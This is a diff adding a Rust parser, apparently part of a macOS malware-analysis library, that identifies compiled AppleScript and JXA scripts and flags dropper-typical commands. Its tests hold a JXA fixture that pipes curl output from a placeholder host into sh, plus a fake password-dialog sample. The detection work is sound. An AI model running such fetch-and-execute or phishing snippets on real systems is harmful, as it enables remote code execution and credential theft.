@@ -0,0 +1,243 @@
+//! OSA scripts: compiled AppleScript ("FasdUAS" data fork of .scpt files, .scptd
+//! bundles and script applets), compiled JavaScript for Automation ("JsOsaDAS"), and
+//! plain AppleScript/JXA source. Reports whether source text is recoverable, which
+//! applications the script addresses by bundle ID, and the commands droppers lean on.
+
+use crate::ffi::{free_c_string_array, free_cstr, to_cstr, vec_to_c_string_array, IrisCStringArray};
+use std::ffi::{c_char, CStr};
+
+const APPLESCRIPT_MAGIC: &[u8] = b"FasdUAS ";
+const JXA_MAGIC: &[u8] = b"JsOsaDAS";
+const JXA_HEADER: usize = 16;
+const MAX_BUNDLE_ID: usize = 155;
+
+pub const SCPT_FORMAT_APPLESCRIPT: u8 = 1;  // compiled AppleScript
+pub const SCPT_FORMAT_JXA: u8 = 2;          // compiled JavaScript for Automation
+pub const SCPT_FORMAT_SOURCE: u8 = 3;       // .applescript / JXA source text
+
+pub const SCPT_FLAG_SHELL: u32 = 0x01;         // do shell script, Terminal do script
+pub const SCPT_FLAG_DYNAMIC_CODE: u32 = 0x02;  // run/load script, Safari do JavaScript
+pub const SCPT_FLAG_UI_SCRIPTING: u32 = 0x04;  // System Events keystrokes and clicks
+pub const SCPT_FLAG_DIALOG: u32 = 0x08;        // display dialog (password phishing)
+pub const SCPT_FLAG_NETWORK: u32 = 0x10;       // open location
+pub const SCPT_FLAG_FILE_WRITE: u32 = 0x20;    // open for access / write
+pub const SCPT_FLAG_CLIPBOARD: u32 = 0x40;     // the clipboard
+pub const SCPT_FLAG_OBJC_BRIDGE: u32 = 0x80;   // AppleScriptObjC / JXA ObjC bridge (source only)
+
+/// Apple event code (as stored in compiled AppleScript), AppleScript term, JXA method.
+const EVENTS: &[(&[u8; 8], &str, &str, u32)] = &[
+    (b"sysoexec", "do shell script", "doShellScript", SCPT_FLAG_SHELL),
+    (b"coredosc", "do script", "doScript", SCPT_FLAG_SHELL),
+    (b"sysodsct", "run script", "runScript", SCPT_FLAG_DYNAMIC_CODE),
+    (b"sysoload", "load script", "loadScript", SCPT_FLAG_DYNAMIC_CODE),
+    (b"sfridojs", "do JavaScript", "doJavaScript", SCPT_FLAG_DYNAMIC_CODE),
+    (b"prcskprs", "keystroke", "keystroke", SCPT_FLAG_UI_SCRIPTING),
+    (b"prcskcod", "key code", "keyCode", SCPT_FLAG_UI_SCRIPTING),
+    (b"prcsclic", "click", "click", SCPT_FLAG_UI_SCRIPTING),
+    (b"sysodlog", "display dialog", "displayDialog", SCPT_FLAG_DIALOG),
+    (b"GURLGURL", "open location", "openLocation", SCPT_FLAG_NETWORK),
+    (b"rdwropen", "open for access", "openForAccess", SCPT_FLAG_FILE_WRITE),
+    (b"rdwrwrit", "write", "write", SCPT_FLAG_FILE_WRITE),
+    (b"JonsgClp", "the clipboard", "theClipboard", SCPT_FLAG_CLIPBOARD),
+];
+
+const OBJC_BRIDGE: &[&str] = &["use framework", "current application's", "ObjC.import", "$.NSTask", "$.NSAppleScript"];
+
+#[repr(C)]
+pub struct IrisScptInfo {
+    pub format: u8,                   // SCPT_FORMAT_*
+    pub version: *mut c_char,         // compiler version from the header ("1.101.10"), "" for source
+    pub source_available: bool,       // source text is embedded (JXA, plain source); compiled
+                                      // AppleScript never carries it and needs osadecompile
+    pub source: *mut c_char,          // that source, "" otherwise
+    pub bundle_ids: IrisCStringArray, // applications addressed by bundle ID ("com.apple.Terminal")
+    pub events: IrisCStringArray,     // AppleScript terms for the commands found ("do shell script")
+    pub flags: u32,                   // SCPT_FLAG_*
+}
+
+pub struct Script {
+    pub format: u8,
+    pub version: String,
+    pub source: Option<String>,
+    pub bundle_ids: Vec<String>,
+    pub events: Vec<String>,
+    pub flags: u32,
+}
+
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    hay.windows(needle.len()).any(|w| w == needle)
+}
+
+fn bundle_id_like(s: &str) -> bool {
+    let parts: Vec<&str> = s.split('.').collect();
+    s.len() <= MAX_BUNDLE_ID && parts.len() >= 3
+        && (2..=6).contains(&parts[0].len()) && parts[0].bytes().all(|b| b.is_ascii_lowercase())
+        && parts.iter().all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'))
+        && !matches!(parts[parts.len() - 1], "plist" | "app" | "scpt" | "sh" | "js" | "txt" | "dylib" | "framework")
+}
+
+/// Printable runs stored as single bytes, UTF-16BE ("utxt", as compiled AppleScript
+/// keeps its strings) or UTF-16LE.
+fn text_runs(d: &[u8]) -> Vec<String> {
+    let printable = |b: u8| (0x20..0x7f).contains(&b);
+    let mut runs: Vec<String> = d.split(|&b| !printable(b)).filter(|r| r.len() >= 4)
+        .map(|r| String::from_utf8_lossy(r).into_owned()).collect();
+    for start in 0..2 {
+        let mut run = String::new();
+        for c in d.get(start..).unwrap_or(&[]).chunks_exact(2) {
+            let (hi, lo) = if start == 0 { (c[0], c[1]) } else { (c[1], c[0]) };
+            if hi == 0 && printable(lo) {
+                run.push(lo as char);
+            } else if !run.is_empty() {
+                runs.push(std::mem::take(&mut run));
+            }
+        }
+        runs.push(run);
+    }
+    runs
+}
+
+fn bundle_ids(runs: &[String]) -> Vec<String> {
+    let mut ids: Vec<String> = Vec::new();
+    for r in runs {
+        for tok in r.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))) {
+            let tok = tok.trim_matches('.');
+            if bundle_id_like(tok) && !ids.iter().any(|i| i == tok) { ids.push(tok.to_string()); }
+        }
+    }
+    ids
+}
+
+fn looks_like_source(s: &str) -> bool {
+    ["tell application", "end tell", "on run", "Application(", "ObjC.import", "do shell script"].iter().any(|k| s.contains(k))
+}
+
+/// Identify and analyse a script; None if the data is not an OSA script.
+pub fn parse(d: &[u8]) -> Option<Script> {
+    let (format, version, source) = if let Some(rest) = d.strip_prefix(APPLESCRIPT_MAGIC) {
+        let v = rest.iter().take_while(|b| b.is_ascii_digit() || **b == b'.').count();
+        (SCPT_FORMAT_APPLESCRIPT, String::from_utf8_lossy(&rest[..v]).into_owned(), None)
+    } else if d.starts_with(JXA_MAGIC) {
+        let version = String::from_utf8_lossy(d.get(JXA_MAGIC.len()..JXA_HEADER)?).into_owned();
+        // Run-only JXA stores bytecode instead of the source text
+        let source = std::str::from_utf8(&d[JXA_HEADER..]).ok().filter(|s| !s.contains('\0')).map(str::to_string);
+        (SCPT_FORMAT_JXA, version, source)
+    } else {
+        let s = std::str::from_utf8(d).ok().filter(|s| looks_like_source(s))?;
+        (SCPT_FORMAT_SOURCE, String::new(), Some(s.to_string()))
+    };
+
+    let (mut events, mut flags) = (Vec::new(), 0);
+    for (code, term, method, flag) in EVENTS {
+        let found = match &source {
+            Some(s) if format == SCPT_FORMAT_JXA || s.contains("Application(") => s.contains(&format!("{}(", method)),
+            Some(s) => s.to_ascii_lowercase().contains(&term.to_ascii_lowercase()),
+            None => contains(d, *code),
+        };
+        if found {
+            events.push(term.to_string());
+            flags |= flag;
+        }
+    }
+    if source.as_deref().is_some_and(|s| OBJC_BRIDGE.iter().any(|k| s.contains(k))) { flags |= SCPT_FLAG_OBJC_BRIDGE; }
+    let runs = match &source {
+        Some(s) => vec![s.clone()],
+        None => text_runs(d),
+    };
+    Some(Script { format, version, bundle_ids: bundle_ids(&runs), source, events, flags })
+}
+
+fn write_info(d: &[u8], out: *mut IrisScptInfo) -> i32 {
+    let Some(s) = parse(d) else { return -3 };
+    unsafe {
+        out.write(IrisScptInfo {
+            format: s.format,
+            version: to_cstr(&s.version),
+            source_available: s.source.is_some(),
+            source: to_cstr(s.source.as_deref().unwrap_or("")),
+            bundle_ids: vec_to_c_string_array(s.bundle_ids),
+            events: vec_to_c_string_array(s.events),
+            flags: s.flags,
+        });
+    }
+    0
+}
+
+// --- FFI entry points ---
+
+/// Analyse a compiled AppleScript or JXA script, or script source, held in memory.
+/// Returns 0=ok, -2=arg error, -3=not an OSA script. Free with iris_scpt_free.
+#[no_mangle]
+pub extern "C" fn iris_scpt_parse(data: *const u8, len: usize, out: *mut IrisScptInfo) -> i32 {
+    if data.is_null() || out.is_null() { return -2; }
+    write_info(unsafe { std::slice::from_raw_parts(data, len) }, out)
+}
+
+/// Analyse a script file, or the main script of a .scptd bundle or script applet
+/// (Contents/Resources/Scripts/main.scpt). Same return codes as iris_scpt_parse,
+/// plus -1=unreadable.
+#[no_mangle]
+pub extern "C" fn iris_scpt_parse_path(path: *const c_char, out: *mut IrisScptInfo) -> i32 {
+    if path.is_null() || out.is_null() { return -2; }
+    let Ok(path) = unsafe { CStr::from_ptr(path) }.to_str() else { return -2 };
+    let p = std::path::Path::new(path);
+    let file = if p.is_dir() { p.join("Contents/Resources/Scripts/main.scpt") } else { p.to_path_buf() };
+    let Ok(d) = std::fs::read(file) else { return -1 };
+    write_info(&d, out)
+}
+
+#[no_mangle]
+pub extern "C" fn iris_scpt_free(info: *mut IrisScptInfo) {
+    if info.is_null() { return; }
+    let info = unsafe { &*info };
+    free_cstr(info.version);
+    free_cstr(info.source);
+    free_c_string_array(&info.bundle_ids);
+    free_c_string_array(&info.events);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn utxt(s: &str) -> Vec<u8> {
+        s.encode_utf16().flat_map(u16::to_be_bytes).collect()
+    }
+
+    fn strings(a: &IrisCStringArray) -> Vec<String> {
+        (0..a.count).map(|i| unsafe { CStr::from_ptr(*a.items.add(i)) }.to_string_lossy().into_owned()).collect()
+    }
+
+    #[test]
+    fn compiled_applescript() {
+        let d = [b"FasdUAS 1.101.10\x0e\0\0\0\x04\x0f\xff\xff".as_slice(), b"\0\x0bsysoexec\0\0utxt\0\0\0\x24",
+                 &utxt("com.apple.Terminal"), b"\0\x0bGURLGURL\0\x10", &utxt("/tmp/x.plist"), b"\xfa\xde\xde\xad"].concat();
+        let mut out = std::mem::MaybeUninit::<IrisScptInfo>::uninit();
+        assert_eq!(iris_scpt_parse(d.as_ptr(), d.len(), out.as_mut_ptr()), 0);
+        let mut info = unsafe { out.assume_init() };
+        assert_eq!((info.format, info.source_available, info.flags), (SCPT_FORMAT_APPLESCRIPT, false, SCPT_FLAG_SHELL | SCPT_FLAG_NETWORK));
+        assert_eq!(unsafe { CStr::from_ptr(info.version) }.to_str().unwrap(), "1.101.10");
+        assert_eq!(strings(&info.bundle_ids), ["com.apple.Terminal"]);
+        assert_eq!(strings(&info.events), ["do shell script", "open location"]);
+        iris_scpt_free(&mut info);
+
+        let mut out = std::mem::MaybeUninit::<IrisScptInfo>::uninit();
+        assert_eq!(iris_scpt_parse(b"\xcf\xfa\xed\xfe".as_ptr(), 4, out.as_mut_ptr()), -3);
+    }
+
+    #[test]
+    fn jxa_and_source() {
+        let jxa = b"JsOsaDAS1.001.00var app = Application('com.apple.systemevents');\napp.includeStandardAdditions = true;\n\
+                    app.keystroke('q');\napp.doShellScript('curl -s https://example.invalid | sh');\nObjC.import('Foundation');\n";
+        let s = parse(jxa).unwrap();
+        assert_eq!((s.format, s.version.as_str(), s.source.is_some()), (SCPT_FORMAT_JXA, "1.001.00", true));
+        assert_eq!(s.flags, SCPT_FLAG_SHELL | SCPT_FLAG_UI_SCRIPTING | SCPT_FLAG_OBJC_BRIDGE);
+        assert_eq!((s.events, s.bundle_ids), (vec!["do shell script".to_string(), "keystroke".into()], vec!["com.apple.systemevents".to_string()]));
+
+        let src = "tell application id \"com.apple.Safari\"\n  Display Dialog \"Password:\" default answer \"\" with hidden answer\nend tell\n";
+        let s = parse(src.as_bytes()).unwrap();
+        assert_eq!((s.format, s.flags, s.bundle_ids), (SCPT_FORMAT_SOURCE, SCPT_FLAG_DIALOG, vec!["com.apple.Safari".to_string()]));
+        assert!(parse(b"JsOsaDAS1.001.00\0\x01\x02bytecode").unwrap().source.is_none());
+        assert!(parse(b"just some notes").is_none());
+    }
+}